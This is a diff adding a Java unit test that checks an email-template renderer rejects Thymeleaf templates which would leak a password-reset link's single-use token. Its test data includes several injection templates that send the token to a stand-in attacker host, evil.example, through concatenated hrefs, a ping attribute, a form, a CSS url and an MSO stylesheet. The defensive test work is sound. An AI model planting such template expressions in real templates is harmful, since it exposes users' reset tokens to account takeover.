@@ -260,6 +260,70 @@ class ThymeleafRendererTest {
     }
 
     @Test
+    void aSecretLinkStandsOnlyAsAWholeLinkOrAWholeText() {
+        // password-reset's link carries a single-use token: joined to other text, in another attribute, a form
+        // field, a style, a comment or the subject it could reach someone other than its reader.
+        String[][] html = {
+                {"<a th:href=\"'https://evil.example/r?u=' + ${link}\">x</a>", "th:href=\"'https://evil.example/r?u=' + ${link}\""},
+                {"<a th:href=\"${link} + '&x=1'\">x</a>", "th:href=\"${link} + '&x=1'\""},
+                {"<a th:href=\"${missing} ?: ${link}\">x</a>", "th:href=\"${missing} ?: ${link}\""},
+                {"<a data-th-href=\"'//evil.example/' + ${ link }\">x</a>", "data-th-href=\"'//evil.example/' + ${ link }\""},
+                {"<link rel=\"stylesheet\" th:href=\"${link}\">", "th:href=\"${link}\""},
+                {"<a th:href=\"${link}\" ping=\"https://evil.example/p\">x</a>", "th:href=\"${link}\""},
+                {"<p th:if=\"${link}\">x</p>", "th:if=\"${link}\""},
+                {"<p th:text=\"'Link: ' + ${link}\">x</p>", "th:text=\"'Link: ' + ${link}\""},
+                {"<p>[[ 'u=' + ${link} ]]</p>", "[[ 'u=' + ${link} ]]"},
+                {"<p>[[${link} ?: 'x']]</p>", "[[${link} ?: 'x']]"},
+                {"<form action=\"https://evil.example\"><textarea name=\"t\">[[${link}]]</textarea></form>", "[[${link}]]"},
+                {"<form><select name=\"t\"><option th:text=\"${link}\">x</option></select></form>", "th:text=\"${link}\""},
+                {"<style>body { background: url('https://evil.example/?[[${link}]]'); }</style>", "[[${link}]]"},
+                {"<!--[if mso]><link rel=\"stylesheet\" href=\"https://evil.example/?[[${link}]]\"><![endif]-->", "[[${link}]]"},
+        };
+        for (String[] attack : html) {
+            assertSecretRefused(new Template("password-reset", "es", "ok", attack[0], "ok", true, null), "html",
+                    attack[1]);
+        }
+        String[][] text = {
+                {"Go: [('https://evil.example/r?u=' + ${link})]", "[('https://evil.example/r?u=' + ${link})]"},
+                {"Go: [[${link} + '#']]", "[[${link} + '#']]"},
+                {"[# th:if=\"${link}\"]x[/]", "th:if=\"${link}\""},
+        };
+        for (String[] attack : text) {
+            assertSecretRefused(new Template("password-reset", "es", "ok", "<p>ok</p>", attack[0], true, null), "text",
+                    attack[1]);
+        }
+        assertThatThrownBy(() -> renderer.render(new Template("verify-email", "en", "Your link [(${link})]",
+                "<p>ok</p>", "ok", true, null), TemplateCatalog.sample("verify-email")))
+                .isInstanceOf(TemplateNotAllowedException.class)
+                .hasMessage("subject: the secret link may not be in the subject, which the history keeps: "
+                        + "[(${link})]");
+
+        // Where it may stand, and anywhere in a template whose link is no secret.
+        Template fine = new Template("password-reset", "es", "Restablece tu contraseña",
+                "<p><a th:href=\"${link}\" style=\"color:#fff\">Elegir</a> <span th:text=\" ${link} \">x</span> "
+                        + "[[${link}]] <span>${link}</span></p><!-- [[${name}]] --><a href=\"https://help\">ayuda</a>",
+                "Elegir: [(${link})] [[${link}]] [# th:utext=\"${link}\"/]", true, null);
+        Rendered rendered = renderer.render(fine, Map.of("link", "https://t/r?token=s", "name", "Ana"));
+        assertThat(rendered.html()).isEqualTo("<p><a href=\"https://t/r?token=s\" style=\"color:#fff\">Elegir</a> "
+                + "<span>https://t/r?token=s</span> https://t/r?token=s <span>${link}</span></p><!-- Ana -->"
+                + "<a href=\"https://help\">ayuda</a>");
+        assertThat(rendered.text()).isEqualTo("Elegir: https://t/r?token=s https://t/r?token=s https://t/r?token=s");
+        Template order = new Template("order-confirmed", "es", "[(${link})]",
+                "<a th:href=\"${link} + '?from=mail'\">x</a>", "[('Ver: ' + ${link})]", true, null);
+        assertThat(renderer.render(order, Map.of("link", "https://t/orders/1")).html())
+                .isEqualTo("<a href=\"https://t/orders/1?from=mail\">x</a>");
+    }
+
+    private void assertSecretRefused(Template template, String part, String expression) {
+        assertThatThrownBy(() -> renderer.render(template, TemplateCatalog.sample(template.key())))
+                .as(part + ": " + expression).isInstanceOf(TemplateNotAllowedException.class)
+                .hasMessageStartingWith(part + ": the secret link may only be the whole th:href of an <a>")
+                .satisfies(e -> assertThat(((TemplateNotAllowedException) e).status()).isEqualTo(400))
+                .satisfies(e -> assertThat(((TemplateNotAllowedException) e).properties())
+                        .containsEntry("part", part).containsEntry("expression", expression));
+    }
+
+    @Test
     void aRenderedPartIsBoundedInSize() {
         String tenThousand = "x".repeat(10_000);
         Template big = new Template("k", "en", "ok", "<p>ok</p>", "[(${v})]".repeat(101), true, null);
